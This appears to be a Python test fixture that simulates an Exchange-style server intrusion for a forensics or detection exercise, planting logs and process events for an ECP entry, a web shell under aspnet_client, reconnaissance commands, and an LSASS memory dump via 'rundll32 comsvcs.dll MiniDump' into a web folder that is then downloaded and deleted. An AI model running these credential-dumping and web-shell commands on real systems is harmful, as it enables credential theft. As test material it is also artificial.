"""1: in through the control panel on 3 March; days later commands, and LSASS carried away through a web folder."""

from datetime import timedelta

from tests.strangers import chain, events, pages, web
from tests.strangers.ground import HandIn, Server, at
from tests.strangers.rendering import hand_in
from tests.strangers.working import looked_for, working

SERVER = Server(
    name="SE-MSX-07",
    netbios="NORD",
    dns="nord.corp.example",
    address="192.0.2.17",
    seed=7,
    begins=at("02-28 00:00"),
    ends=at("03-12 09:00"),
    builds=((at("01-01 00:00"), (15, 1, 2106, 2)), (at("03-08 20:00"), (15, 1, 2106, 13))),
)
ACTOR, USER_OF_SHELL = "198.51.100.23", "198.51.100.71"
SHELL = "/aspnet_client/tsq81kd.aspx"
AGENT = "python-requests/2.25.1"
WORKER = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
POOL = (
    'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" '
    "-a \\\\.\\pipe\\iisipm91 "
    '-h "C:\\inetpub\\temp\\apppools\\DefaultAppPool.config" '
    '-w "" -m 0 -t 20'
)
COMMANDS = (
    (0, "whoami", "whoami.exe", "whoami"),
    (2, 'net group "Exchange Servers" /domain', "net.exe", 'net  group "Exchange Servers" /domain'),
    (5, "tasklist /svc", "tasklist.exe", "tasklist  /svc"),
    (
        9,
        "rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 728 C:\\inetpub\\wwwroot\\aspnet_client\\iis.gif full",
        "rundll32.exe",
        "rundll32  C:\\windows\\System32\\comsvcs.dll, MiniDump 728 C:\\inetpub\\wwwroot\\aspnet_client\\iis.gif full",
    ),
    (31, "del /f /q iis.gif", "", ""),
)


def handed_in() -> HandIn:
    gathered = working(SERVER)
    way = {"client": ACTOR, "stem": "/ecp/y.js", "agent": AGENT}
    chain.into_the_panel(gathered, at("03-03 04:11:22"), **way)
    path = f"{SERVER.inetpub}/wwwroot{SHELL}"
    chain.write_the_shell(gathered, at("03-03 04:11:40"), path=path, key="Ananas", **way)
    web.direct(gathered, at("03-03 04:12:31"), SHELL, client=ACTOR, agent=AGENT)
    begun = at("03-06 22:40:10")
    for minute, typed, image, line in COMMANDS:
        when = begun + timedelta(minutes=minute)
        web.direct(gathered, when, SHELL, client=USER_OF_SHELL, method="POST")
        gathered.plant("iis", f"POST {SHELL} 200", when)
        shell = f'"cmd.exe" /c cd /d "C:/inetpub/wwwroot/aspnet_client"&{typed}&echo [S]&cd&echo [E]'
        events.process(gathered, when, "C:\\Windows\\System32\\cmd.exe", shell, WORKER, parent_line=POOL)
        gathered.plant("event", f"4688: w3wp.exe starts cmd.exe /c {typed}", when)
        if image:
            later = when + timedelta(seconds=1)
            events.process(
                gathered,
                later,
                f"C:\\Windows\\System32\\{image}",
                line,
                "C:\\Windows\\System32\\cmd.exe",
                parent_line=shell,
            )
    gathered.plant(
        "event",
        "4688: rundll32 comsvcs.dll MiniDump into a web folder",
        begun + timedelta(minutes=9, seconds=1),
    )
    web.direct(
        gathered,
        begun + timedelta(minutes=14),
        "/aspnet_client/iis.gif",
        client=USER_OF_SHELL,
        time_taken=48211,
    )
    gathered.plant(
        "iis", "GET /aspnet_client/iis.gif 200: the dump is fetched", begun + timedelta(minutes=14)
    )
    folder = f"{SERVER.windows}/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/e22c2559/92c7e946"
    gathered.put(
        f"{folder}/tsq81kd.aspx.cdcab7d2.compiled",
        pages.compiled(SHELL, "App_Web_h1v0qk2e"),
        at("03-03 04:12:33"),
    )
    gathered.plant("file", "a .compiled file names the shell", at("03-03 04:12:33"))
    looked_for(gathered, at("03-09 13:05"), "203.0.113.201")
    return hand_in(gathered, "compromised", "credential-access")
